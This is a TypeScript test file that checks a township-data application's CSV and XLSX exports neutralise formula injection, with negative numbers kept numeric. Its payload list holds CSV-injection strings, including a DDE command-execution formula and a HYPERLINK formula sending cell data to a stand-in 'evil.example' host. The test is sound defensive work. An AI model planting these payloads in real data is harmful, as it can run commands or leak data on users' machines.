/**
 * CSV injection (OWASP): compounds named like formulas come out of every CSV export as inert text
 * (a leading single quote), while negative numbers stay numbers; XLSX keeps them as text cells,
 * never formulas. Checked through every export path — `onemap export compounds`, `onemap metrics`
 * (report and drill-through), `workbench.export` (CSV and XLSX) and the review pack's XLSX — on
 * both databases.
 */
import { sql } from 'drizzle-orm';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase, type Database } from '../../../server/db/connection.ts';
import { csvField, toCsv } from '../../../server/services/csv.ts';
import { parseCsv } from '../../../server/services/ledger/readLedgerFile.ts';
import { callerAs, TEST_TOWNSHIP } from '../../support/callers.ts';
import { runCli } from '../../support/cli.ts';
import { FIXTURE_AS_OF } from '../../support/constants.ts';
import { availableBackends, fixtureDataDir, openFixtureDatabase, type TestDatabase } from '../../support/databases.ts';

/** Names an attacker with ledger access could give a compound. */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
];
const TOWNSHIP_PAYLOAD = '=1+2';

describe('a CSV cell', () => {
  it.each([
    [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
    ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
    ['+1+1', `'+1+1`],
    ['-2+3', `'-2+3`],
    ['@SUM(1+1)', `'@SUM(1+1)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
    ['-5', `'-5`],
    ['陈埭镇', '陈埭镇'],
    ['a,b', '"a,b"'],
    ['a = b', 'a = b'],
    ['', ''],
  ])('writes the text %j as %j', (text, cell) => {
    expect(csvField(text)).toBe(cell);
  });

  it.each([
    [-2, '-2'],
    [-0.0125, '-0.0125'],
    [3, '3'],
    [true, 'true'],
    [null, ''],
    [undefined, ''],
  ])('writes the value %j as it is (numbers stay numbers)', (value, cell) => {
    expect(csvField(value)).toBe(cell);
  });

  it('quotes and neutralises the header too', () => {
    expect(toCsv(['=a', 'b'], [['-1', -1]])).toBe("'=a,b\n'-1,-1\n");
  });
});

/** Cells a spreadsheet would run as a formula: text beginning with = + - @ tab or CR that is not a plain number. */
function formulaCells(csv: string): string[] {
  return parseCsv(csv.replace(/^\uFEFF/, ''))
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell)));
}

/** Every payload appears as text with a leading single quote, and nothing would run as a formula. */
function expectNeutralised(csv: string, label: string, payloads = PAYLOADS): void {
  expect(formulaCells(csv), label).toEqual([]);
  const cells = new Set(parseCsv(csv.replace(/^\uFEFF/, '')).flat());
  for (const payload of payloads) expect(cells.has(`'${payload}`), `${label}: ${payload}`).toBe(true);
}

/** The workbook's sheets hold the names as shared strings, unchanged, and not one formula. */
async function expectTextCells(base64: string, label: string): Promise<void> {
  const zip = await JSZip.loadAsync(Buffer.from(base64, 'base64'));
  const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
  expect(sheets.length, label).toBeGreaterThan(0);
  for (const name of sheets) expect(await zip.file(name)!.async('string'), `${label} ${name}`).not.toMatch(/<f[ >]/);
  const strings = (await zip.file('xl/sharedStrings.xml')!.async('string'))
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>');
  for (const payload of PAYLOADS) expect(strings, `${label}: ${payload}`).toContain(`<t>${payload}</t>`);
}

/** The first five compounds of every township get a payload as their name; one township too. */
async function nameCompoundsLikeFormulas(database: Pick<Database, 'db'>): Promise<void> {
  await database.db.execute(sql`
    update compounds c set name = (${sql.raw(`array[${PAYLOADS.map((p) => `'${p.replaceAll("'", "''")}'`).join(',')}]`)})[r.n]
    from (select id, row_number() over (partition by township_code order by code) as n from compounds) r
    where r.id = c.id and r.n <= ${PAYLOADS.length}`);
  await database.db.execute(sql`update townships set name = ${TOWNSHIP_PAYLOAD} where code = ${TEST_TOWNSHIP}`);
}

describe.each(availableBackends())('formula-like names through every export (%s)', (kind) => {
  let database: Database;
  let disposeDatabase: () => Promise<void>;
  let env: Record<string, string>;
  beforeAll(async () => {
    if (kind === 'pglite') {
      // The CLI opens the data directory itself: the names are set on a copy on disk.
      const dataDir = await fixtureDataDir();
      database = await openDatabase({ dataDir });
      // Closed before the CLI runs: an embedded directory is held by one process at a time.
      disposeDatabase = async () => {};
      env = { ONEMAP_DATA_DIR: dataDir };
    } else {
      const copy: TestDatabase = await openFixtureDatabase('postgres');
      database = copy;
      disposeDatabase = () => copy.dispose();
      env = { DATABASE_URL: copy.url! };
    }
    await nameCompoundsLikeFormulas(database);
  });
  afterAll(() => disposeDatabase?.());

  it('keeps them inert in workbench.export (CSV) and as text cells in its XLSX and the review pack', async () => {
    const analyst = await callerAs(database, 'analyst');
    const rows = await analyst.workbench.rows({ asOf: FIXTURE_AS_OF });
    const codes = rows.map((c) => c.code);
    const csv = await analyst.workbench.export({ asOf: FIXTURE_AS_OF, codes, format: 'csv' });
    expectNeutralised(Buffer.from(csv.base64, 'base64').toString('utf8'), 'workbench.export csv');
    const xlsx = await analyst.workbench.export({ asOf: FIXTURE_AS_OF, codes, format: 'xlsx' });
    await expectTextCells(xlsx.base64, 'workbench.export xlsx');
    const pack = await analyst.review.pack({ week: '2025-W30', townshipCode: TEST_TOWNSHIP, format: 'xlsx' });
    const zip = await JSZip.loadAsync(Buffer.from(pack.base64, 'base64'));
    for (const name of Object.keys(zip.files).filter((n) => n.startsWith('xl/worksheets/sheet'))) {
      expect(await zip.file(name)!.async('string'), `review.pack ${name}`).not.toMatch(/<f[ >]/);
    }
    expect(await zip.file('xl/sharedStrings.xml')!.async('string')).toContain(`<t>${TOWNSHIP_PAYLOAD}</t>`);
    if (kind === 'pglite') await database.close();
  }, 180_000);

  it('keeps them inert in `onemap export compounds` and `onemap metrics` (report and drill-through), negative numbers as numbers', async () => {
    const exported = await runCli(['export', 'compounds', '--as-of', FIXTURE_AS_OF, '--format', 'csv'], env);
    expect(exported.code, exported.stderr).toBe(0);
    expectNeutralised(exported.stdout, 'export compounds');

    const report = await runCli(['metrics', '--as-of', FIXTURE_AS_OF, '--format', 'csv'], env);
    expect(report.code, report.stderr).toBe(0);
    expectNeutralised(report.stdout, 'metrics csv', [TOWNSHIP_PAYLOAD]);
    const deltas = parseCsv(report.stdout)
      .slice(1)
      .map((row) => row[12]!);
    expect(
      deltas.some((d) => d.startsWith('-')),
      'some indicator fell: a negative delta',
    ).toBe(true);
    for (const d of deltas) expect(d === '' || Number.isFinite(Number(d)), `delta ${d} is a number`).toBe(true);

    const drill = await runCli(
      [
        'metrics',
        'drill',
        '--indicator',
        'partyOrgCoverage',
        '--township',
        TEST_TOWNSHIP,
        '--as-of',
        FIXTURE_AS_OF,
        '--format',
        'csv',
      ],
      env,
    );
    expect(drill.code, drill.stderr).toBe(0);
    expectNeutralised(drill.stdout, 'metrics drill csv', [...PAYLOADS, TOWNSHIP_PAYLOAD]);
  }, 180_000);
});
